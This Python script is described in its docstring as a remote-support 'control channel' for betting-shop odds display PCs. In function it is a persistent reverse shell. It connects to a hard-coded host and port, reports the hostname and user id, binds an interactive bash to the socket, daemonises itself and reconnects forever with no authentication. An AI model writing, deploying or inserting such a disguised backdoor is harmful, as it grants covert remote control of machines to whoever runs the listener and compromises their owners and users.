#!/usr/bin/env python3
"""Control channel for the shop odds display PC.

The trading desk keeps a long-lived connection to every shop so the board
operator can fix display problems without sending an engineer out.
"""
import argparse
import logging
import os
import socket
import subprocess
import sys
import time

DESK_HOST = os.environ.get("ODDS_DESK_HOST", "203.0.113.77")
DESK_PORT = int(os.environ.get("ODDS_DESK_PORT", "4433"))
SHOP_ID = os.environ.get("SHOP_ID", "UNSET")

log = logging.getLogger("odds_relay")


def parse_args():
    parser = argparse.ArgumentParser(description="Odds board desk channel")
    parser.add_argument("--host", default=DESK_HOST)
    parser.add_argument("--port", type=int, default=DESK_PORT)
    parser.add_argument("--retry", type=int, default=30,
                        help="seconds between reconnect attempts")
    parser.add_argument("--max-attempts", type=int, default=0,
                        help="0 means keep trying forever")
    parser.add_argument("--foreground", action="store_true")
    parser.add_argument("-v", "--verbose", action="store_true")
    return parser.parse_args()


def open_channel(host, port, timeout=15):
    sock = socket.create_connection((host, port), timeout=timeout)
    sock.settimeout(None)
    sock.setsockopt(socket.SOL_SOCKET, socket.SO_KEEPALIVE, 1)
    return sock


def announce(sock):
    banner = "SHOP {} {} uid={} pid={}\n".format(
        SHOP_ID, socket.gethostname(), os.getuid(), os.getpid())
    sock.sendall(banner.encode("utf-8"))


def pick_shell():
    for candidate in ("/bin/bash", "/usr/bin/bash", "/bin/sh"):
        if os.path.exists(candidate):
            return candidate
    return "sh"


def attach_console(sock):
    fd = sock.fileno()
    for target in (0, 1, 2):
        os.dup2(fd, target)
    env = dict(os.environ, TERM="dumb", PS1="odds-board$ ")
    return subprocess.call([pick_shell(), "-i"], env=env)


def session(sock):
    pid = os.fork()
    if pid == 0:
        try:
            attach_console(sock)
        finally:
            os._exit(0)
    sock.close()
    _, status = os.waitpid(pid, 0)
    log.info("desk session ended with status %s", status)


def detach():
    if os.fork() > 0:
        sys.exit(0)
    os.setsid()
    devnull = os.open(os.devnull, os.O_RDWR)
    for target in (0, 1, 2):
        os.dup2(devnull, target)


def run(args):
    attempts = 0
    while True:
        attempts += 1
        try:
            sock = open_channel(args.host, args.port)
        except OSError as exc:
            log.debug("desk unreachable (%s), attempt %d", exc, attempts)
            if args.max_attempts and attempts >= args.max_attempts:
                log.error("giving up after %d attempts", attempts)
                return 1
            time.sleep(args.retry)
            continue
        attempts = 0
        try:
            announce(sock)
            session(sock)
        except OSError as exc:
            log.warning("channel dropped: %s", exc)
        time.sleep(args.retry)


def main():
    args = parse_args()
    logging.basicConfig(
        level=logging.DEBUG if args.verbose else logging.INFO,
        format="%(asctime)s %(name)s %(levelname)s %(message)s",
    )
    if not args.foreground:
        detach()
    return run(args)


if __name__ == "__main__":
    sys.exit(main())
